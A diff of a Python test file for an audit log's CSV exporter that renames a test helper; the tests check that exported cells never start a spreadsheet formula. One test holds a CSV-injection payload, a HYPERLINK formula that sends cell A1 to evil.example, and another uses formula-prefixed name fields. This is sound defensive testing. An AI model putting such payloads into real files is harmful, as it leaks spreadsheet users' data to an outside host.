@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from pingadmin.audit.chain import canonical
 from pingadmin.audit.export.csv_file import escape_formulas
 from pingadmin.audit.record.actors import Actor
-from tests.audit.factories import BEN, event, record_entry
+from tests.audit.factories import BEN, record_entry, record_event
 
 FORMULAS = [
     "=",
@@ -46,7 +46,7 @@ def exported(as_auditor):
 
 
 def test_an_entry_is_one_line_with_reason_ticket_and_result_side_by_side(exported):
-    head = event(
+    head = record_event(
         alias="ping",
         session_id="ses_8f2",
         client="Café",
@@ -58,7 +58,7 @@ def test_an_entry_is_one_line_with_reason_ticket_and_result_side_by_side(exporte
         "upstream_code": "internal",
         "detail": {"message": "try again"},
     }
-    last = event(phase="outcome", result="unknown", story=head.seq, by=BEN, **answer)
+    last = record_event(phase="outcome", result="unknown", story=head.seq, by=BEN, **answer)
 
     (line,) = exported()
 
@@ -113,8 +113,8 @@ def test_no_cell_begins_a_formula_whatever_comes_before_it(beginning):
 def test_hostile_text_stays_text_in_one_cell(exported):
     hostile = '=HYPERLINK("http://evil.example/?x="&A1;"click"),\'; =1+1'
     texts = dict.fromkeys(["session_id", "client", "reason", "ticket"], hostile)
-    head = event(alias="ping", **texts)
-    event(
+    head = record_event(alias="ping", **texts)
+    record_event(
         phase="outcome",
         result="rejected",
         story=head.seq,
@@ -130,7 +130,7 @@ def test_hostile_text_stays_text_in_one_cell(exported):
 
 
 def test_a_person_cannot_name_themselves_a_formula(exported):
-    event(by=Actor("person", "9", "@SUM(1)", "-role", "+1", "=2"))
+    record_event(by=Actor("person", "9", "@SUM(1)", "-role", "+1", "=2"))
 
     (line,) = exported()
 
